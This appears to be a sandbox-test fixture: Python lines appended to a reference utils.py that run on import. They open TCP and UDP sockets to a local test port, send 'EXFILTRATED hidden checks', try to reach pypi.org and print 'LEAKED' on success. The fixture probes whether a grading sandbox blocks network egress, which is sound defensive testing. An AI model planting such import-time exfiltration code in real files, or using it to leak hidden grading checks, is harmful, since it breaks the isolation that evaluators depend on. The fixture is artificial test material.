# ==== hostile addition to reference/utils.py (tests/grading/sandbox/corpus): the upload is that file + these lines ====
# ruff: noqa: E402
import socket as _socket

_PORT = "__PORT__"  # the test listens on this port of 127.0.0.1
_PORT = 8080 if _PORT.startswith("__") else int(_PORT)
for _family, _host in ((_socket.AF_INET, "127.0.0.1"), (_socket.AF_INET6, "::1")):
    try:
        with _socket.create_connection((_host, _PORT), timeout=3) as _connection:
            _connection.sendall(b"EXFILTRATED hidden checks")
        print(f"LEAKED: connected to {_host}:{_PORT}")
    except OSError as _error:
        print(f"no TCP connection to {_host}:{_PORT}: {_error}")
    try:
        with _socket.socket(_family, _socket.SOCK_DGRAM) as _datagram:
            _datagram.sendto(b"EXFILTRATED", (_host, _PORT))
        print(f"sent a datagram to {_host}:{_PORT}")
    except OSError as _error:
        print(f"no datagram to {_host}:{_PORT}: {_error}")
try:
    _socket.create_connection(("pypi.org", 443), timeout=3)
    print("LEAKED: reached pypi.org")
except OSError as _error:
    print(f"no connection to pypi.org: {_error}")
